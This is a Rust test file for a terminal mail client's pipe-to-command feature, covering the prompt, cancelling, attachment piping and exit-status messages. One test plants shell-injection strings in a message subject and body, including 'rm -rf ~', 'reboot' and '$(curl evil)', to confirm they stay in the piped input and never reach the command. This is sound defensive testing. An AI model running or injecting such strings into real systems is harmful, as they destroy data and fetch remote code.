//! `|`: the prompt, the effect it gives (the command as typed, the message's text on its
//! stdin), the attachment chooser's file, Esc, and how the command ended.

use super::harness::*;
use innboks::app::PipeInput;
use innboks::domain::Attachment;

/// The app with message 0 opened (its body loaded and shown).
fn opened() -> App {
    opened_with(message(0))
}

fn opened_with(loaded: Message) -> App {
    let mut app = logged_in();
    let effects = update(&mut app, key(KeyCode::Enter));
    let request = effects
        .iter()
        .find_map(|e| match e {
            Effect::FetchMessage { request, .. } => Some(*request),
            _ => None,
        })
        .expect("Enter opens");
    update(
        &mut app,
        Msg::MessageLoaded {
            request,
            message: Box::new(loaded),
            marked_read: true,
        },
    );
    assert!(app.detail_message().is_some());
    app
}

fn pipe_effect(effects: &[Effect]) -> Option<(&str, &PipeInput)> {
    effects.iter().find_map(|e| match e {
        Effect::Pipe { command, input } => Some((command.as_str(), input)),
        _ => None,
    })
}

#[test]
fn enter_pipes_the_message_text_to_the_command_as_typed() {
    let mut app = opened();
    update(&mut app, key(KeyCode::Char('|')));
    assert!(app.pipe_line().is_some(), "| opens the prompt");
    type_text(&mut app, "pdftotext - - | grep kroner");
    let effects = update(&mut app, key(KeyCode::Enter));
    let (command, input) = pipe_effect(&effects).expect("Enter pipes");
    assert_eq!(command, "pdftotext - - | grep kroner");
    // As `show --text` prints it: the header lines, a blank line, the body.
    let text = "Fra: Skatteetaten\nMottatt: 20.11.2026 13:00\nStatus: Lest   Type: Brev\n\
                Emne: Melding 0\n\nHei.\nTekst.\n";
    assert_eq!(input, &PipeInput::Text(text.into()));
    assert!(app.pipe_line().is_none(), "the prompt closes");
}

#[test]
fn the_prompt_starts_on_the_last_command() {
    let mut app = opened();
    update(&mut app, key(KeyCode::Char('|')));
    type_text(&mut app, "less");
    update(&mut app, key(KeyCode::Enter));
    update(&mut app, key(KeyCode::Char('|')));
    assert_eq!(app.pipe_line().map(|l| l.text.value()), Some("less"));
    let effects = update(&mut app, key(KeyCode::Enter));
    assert_eq!(pipe_effect(&effects).map(|(c, _)| c), Some("less"));
}

#[test]
fn esc_cancels_and_an_empty_line_pipes_nothing() {
    let mut app = opened();
    update(&mut app, key(KeyCode::Char('|')));
    type_text(&mut app, "less");
    let effects = update(&mut app, key(KeyCode::Esc));
    assert!(effects.is_empty());
    assert!(app.pipe_line().is_none());
    assert_eq!(
        app.pipe_command, "",
        "a cancelled command is not remembered"
    );
    update(&mut app, key(KeyCode::Char('|')));
    let effects = update(&mut app, key(KeyCode::Enter));
    assert!(pipe_effect(&effects).is_none());
    assert!(app.pipe_line().is_none());
}

#[test]
fn without_an_open_message_it_says_so() {
    let mut app = logged_in();
    let effects = update(&mut app, key(KeyCode::Char('|')));
    assert!(effects.is_empty());
    assert!(app.pipe_line().is_none());
    assert_eq!(
        app.status,
        Some(Status::Info("Åpne en melding først.".into()))
    );
}

#[test]
fn hostile_text_stays_in_the_input_never_in_the_command() {
    let mut hostile = message(0);
    hostile.summary.subject = "$(touch /tmp/x) `id` ; rm -rf ~".into();
    hostile.body = "'; reboot; '\n$(curl evil)".into();
    let mut app = opened_with(hostile);
    update(&mut app, key(KeyCode::Char('|')));
    type_text(&mut app, "cat");
    let effects = update(&mut app, key(KeyCode::Enter));
    let (command, input) = pipe_effect(&effects).expect("pipes");
    assert_eq!(command, "cat");
    let PipeInput::Text(text) = input else {
        panic!("the text");
    };
    assert!(text.contains("$(touch /tmp/x) `id`") && text.contains("$(curl evil)"));
}

#[test]
fn in_the_attachment_chooser_the_chosen_file_is_fetched_then_piped() {
    let mut loaded = message(0);
    let file = |id: &str, name: &str| Attachment {
        id: id.into(),
        name: name.into(),
        file_name: name.into(),
        size: Some(10),
        encrypted: false,
        url: format!("http://127.0.0.1/a/{id}"),
        bundle: false,
    };
    loaded.attachments = vec![file("1", "a.pdf"), file("2", "b.pdf")];
    let mut app = opened_with(loaded);
    update(&mut app, key(KeyCode::Char('v')));
    update(&mut app, key(KeyCode::Char('j')));
    assert_eq!(app.attachment_choice(), Some(1));
    update(&mut app, key(KeyCode::Char('|')));
    type_text(&mut app, "pdftotext - -");
    let effects = update(&mut app, key(KeyCode::Enter));
    assert_eq!(
        effects,
        vec![Effect::FetchForPipe {
            url: "http://127.0.0.1/a/2".into(),
            file_name: "b.pdf".into(),
            command: "pdftotext - -".into(),
        }]
    );
    let path = std::path::PathBuf::from("/tmp/innboks-pipe/b.pdf");
    let effects = update(
        &mut app,
        Msg::PipeFetched {
            command: "pdftotext - -".into(),
            path: path.clone(),
        },
    );
    assert_eq!(
        effects,
        vec![Effect::Pipe {
            command: "pdftotext - -".into(),
            input: PipeInput::File(path),
        }]
    );
}

#[test]
fn how_the_command_ended_is_on_the_status_line() {
    let mut app = opened();
    let ended = |app: &mut App, outcome| {
        update(
            app,
            Msg::Piped {
                command: "less".into(),
                outcome,
            },
        );
        app.status.clone()
    };
    assert_eq!(
        ended(&mut app, Ok(Some(0))),
        Some(Status::Info("«less» er ferdig.".into()))
    );
    assert_eq!(
        ended(&mut app, Ok(Some(3))),
        Some(Status::Info("«less» endte med status 3.".into()))
    );
    assert!(matches!(
        ended(&mut app, Err("finnes ikke".into())),
        Some(Status::Error(text)) if text.contains("Kunne ikke kjøre «less»: finnes ikke")
    ));
}
